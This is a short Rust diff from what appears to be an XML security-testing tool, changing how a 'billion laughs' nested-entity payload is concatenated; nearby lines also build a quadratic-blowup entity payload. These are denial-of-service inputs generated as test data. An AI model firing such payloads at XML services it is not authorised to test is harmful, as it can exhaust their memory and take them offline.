@@ -44,7 +44,7 @@ fn declarations(stage: &Stage<'_>, all: &mut Vec<Attack>) {
     let mut laughs = "<!ENTITY a0 \"ha\">".to_owned();
     for nth in 1..10 {
         let inside = format!("&a{};", nth - 1).repeat(10);
-        laughs += &format!("<!ENTITY a{nth} \"{inside}\">");
+        laughs = format!("{laughs}<!ENTITY a{nth} \"{inside}\">");
     }
     let quadratic = format!("<!ENTITY e \"{}\">", "a".repeat(50_000));
     let often = replaced(&response, &format!(">{ADA}"), &format!(">{}", "&e;".repeat(10_000)));
